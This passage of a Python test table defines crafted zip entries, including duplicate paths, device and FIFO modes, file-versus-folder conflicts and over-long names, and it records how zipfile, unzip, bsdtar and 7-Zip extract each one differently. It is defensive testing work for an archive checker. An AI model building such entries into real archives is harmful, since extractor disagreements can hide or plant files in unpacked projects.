        differs=("zipfile", "unzip", "bsdtar", "7zz"),
        why="extractors fold ././src/app.js into src/app.js: one file, the last one's content",
        tolerated=_DUP,
    ),
    # file-is-parent
    DiffCase(
        "file-is-parent",
        _file_is_parent(b"lib", b"lib/index.js"),
        {"file-is-parent": "'lib'"},
        _with(RawEntry(b"lib", b"not a folder\n"), RawEntry(b"lib/index.js", APP_JS)),
        differs=("zipfile", "unzip", "bsdtar", "7zz"),
        why="no extractor can write both lib and lib/index.js",
    ),
    DiffCase(
        "file-is-parent-case-only",
        _file_is_parent(b"Lib", b"lib/index.js"),
        {"file-is-parent": "'Lib'"},
        _with(RawEntry(b"Lib", b"not a folder\n"), RawEntry(b"lib/index.js", APP_JS)),
        why="a differential on case-insensitive file systems (macOS, Windows) only",
    ),
    # name-too-long, path-too-deep
    DiffCase(
        "segment-too-long",
        _name(b"src/" + LONG_SEGMENT + b".js", b"src/short.js"),
        {"name-too-long": "255"},
        _with(RawEntry(b"src/" + LONG_SEGMENT + b".js", b"x\n")),
        differs=("zipfile", "unzip", "bsdtar", "7zz"),
        why="the file system refuses the name: every extractor drops the file",
    ),
    DiffCase(
        "path-too-long",
        _name(LONG_PATH, b"src/short.js"),
        {"name-too-long": "1024"},
        _with(RawEntry(LONG_PATH, b"x\n")),
    ),
    DiffCase(
        "path-too-deep", _name(DEEP_PATH, b"a/b/x.js"), {"path-too-deep": "64"}, _with(RawEntry(DEEP_PATH, b"x\n"))
    ),
    # entry-type
    DiffCase(
        "char-device",
        _typed(b"dev/tty0", (stat.S_IFCHR | 0o666) << 16),
        {"entry-type": "device"},
        _with(RawEntry(b"dev/tty0", external_attr=(stat.S_IFCHR | 0o666) << 16)),
        differs=("zipfile", "unzip", "bsdtar-stream", "7zz"),
        why="bsdtar (as root) creates a character device; the others a regular file",
    ),
    DiffCase(
        "block-device",
        _typed(b"dev/sda", (stat.S_IFBLK | 0o660) << 16),
        {"entry-type": "device"},
        _with(RawEntry(b"dev/sda", external_attr=(stat.S_IFBLK | 0o660) << 16)),
        differs=("zipfile", "unzip", "bsdtar-stream", "7zz"),
        why="bsdtar (as root) creates a block device; the others a regular file",
    ),
    DiffCase(
        "fifo",
        _typed(b"run/pipe", (stat.S_IFIFO | 0o644) << 16),
        {"entry-type": "FIFO"},
        _with(RawEntry(b"run/pipe", external_attr=(stat.S_IFIFO | 0o644) << 16)),
        differs=("zipfile", "unzip", "bsdtar", "7zz"),
        why="every reader writes a regular file where the mode says FIFO (they agree with each other)",
    ),
    DiffCase(
        "socket",
        _typed(b"run/app.sock", (stat.S_IFSOCK | 0o755) << 16),
        {"entry-type": "socket"},
        _with(RawEntry(b"run/app.sock", external_attr=(stat.S_IFSOCK | 0o755) << 16)),
        differs=("zipfile", "unzip", "bsdtar", "7zz"),
        why="every reader writes a regular file where the mode says socket (they agree with each other)",
    ),
    DiffCase(
        "folder-mode-on-a-file-name",
        _typed(b"bin/run", _DIR, data=b"#!/bin/sh\nid\n"),
        {"entry-type": "folder"},
        BASE,
        differs=("zipfile", "unzip", "bsdtar-stream"),
        why="bsdtar and 7-Zip create a folder bin/run from the mode; zipfile and unzip a file holding the data",
    ),
    DiffCase(
        "trailing-slash-with-data",
        _typed(b"lib/", _FILE, data=b"#!/bin/sh\nid\n", control_name=b"lib.sh"),
        {"entry-type": "data"},
        BASE,
    ),
    DiffCase(
        "trailing-slash-with-file-mode",
        _typed(b"lib/", _FILE, control_name=b"lib.txt"),
        {"entry-type": "'lib/'"},
        BASE,
    ),
    DiffCase(
        "ms-dos-folder-attribute-on-a-file-name",
        _typed(b"config", 0x10, create_system=0),
        {"entry-type": "folder"},
        BASE,
        differs=("zipfile", "unzip", "bsdtar-stream"),
        why="7-Zip and bsdtar create a folder from the MS-DOS attribute; zipfile and unzip an empty file",
    ),
    # single-top-folder
    DiffCase(
        "finder-wrapped-folder",
        lambda attack: _finder_wrapped(attack, macosx=False),
        {"single-top-folder": "contents"},
        judged_view(
            [RawEntry(b"orders-service/package.json", PACKAGE_JSON), RawEntry(b"orders-service/src/app.js", APP_JS)]
        ),
    ),
    DiffCase(
        "finder-wrapped-folder-with-macosx",
        lambda attack: _finder_wrapped(attack, macosx=True),
        {"single-top-folder": "contents"},
        judged_view(
            [
                RawEntry(b"orders-service/package.json", PACKAGE_JSON),
                RawEntry(b"orders-service/src/app.js", APP_JS),
                RawEntry(b"__MACOSX/orders-service/._package.json", APPLEDOUBLE),
            ]
        ),
    ),
)
